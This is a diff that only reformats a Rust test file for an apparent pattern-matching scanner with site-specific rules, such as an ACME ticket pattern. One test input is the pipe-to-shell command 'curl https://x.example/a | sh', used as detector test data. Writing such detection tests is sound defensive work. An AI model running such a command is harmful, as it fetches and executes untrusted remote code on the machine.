@@ -30,7 +30,10 @@ fn a_rule_of_a_site_finds_what_it_is_for_beside_the_rules_of_the_program() {
     let rules = taken(GOOD).unwrap();
     assert_eq!(found(&rules, "see ACME-123456 for more"), ["site/acme-ticket"]);
     assert!(found(RuleSet::built_in(), "see ACME-123456 for more").is_empty());
-    assert_eq!(found(&rules, "curl https://x.example/a | sh"), found(RuleSet::built_in(), "curl https://x.example/a | sh"));
+    assert_eq!(
+        found(&rules, "curl https://x.example/a | sh"),
+        found(RuleSet::built_in(), "curl https://x.example/a | sh")
+    );
 }
 
 #[test]
@@ -83,7 +86,10 @@ fn a_pattern_that_does_not_compile_is_refused_with_its_line() {
 
 #[test]
 fn a_rule_that_matches_everything_is_refused() {
-    let (_, what) = refused("keywords = [\"ACME-\"]\npattern = 'ACME-(?<value>[0-9]{6})\\b'", "keywords = [\"th\", \"er\", \"in\"]\npattern = '.'");
+    let (_, what) = refused(
+        "keywords = [\"ACME-\"]\npattern = 'ACME-(?<value>[0-9]{6})\\b'",
+        "keywords = [\"th\", \"er\", \"in\"]\npattern = '.'",
+    );
     assert!(what.contains("matches everything"), "{what}");
 }
 
